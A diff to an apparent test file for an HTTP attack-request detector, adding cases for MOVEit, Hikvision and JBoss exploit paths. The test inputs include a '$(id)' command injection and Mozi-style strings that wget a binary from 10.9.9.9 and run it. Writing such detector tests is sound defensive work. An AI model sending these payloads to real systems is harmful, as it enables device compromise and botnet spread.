@@ -177,6 +177,10 @@ test('requests of worms and of known holes are told, and those of every day are 
   const post = (target: string, body: string) =>
     attacks(`POST ${target} HTTP/1.1\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n${body}`)
   const fetched = ['program fetched and run']
+  assert.equal(post('/moveitisapi/moveitisapi.dll?action=m2', 'x').length, 1)
+  assert.equal(post('/SDK/webLanguage', '<language>$(id)</language>').length, 1)
+  assert.equal(post('/invoker/JMXInvokerServlet', 'x').length, 1)
+  assert.deepEqual(get('/_layouts/15/start.aspx'), [])
   assert.deepEqual(get('/shell?cd+/tmp;wget+http://10.9.9.9/mozi.a;chmod+777+mozi.a'), fetched)
   assert.deepEqual(
     post('/picdesc.xml', '<NewInternalClient>`cd /tmp; wget http://10.9.9.9/m; sh m`</NewInternalClient>'),
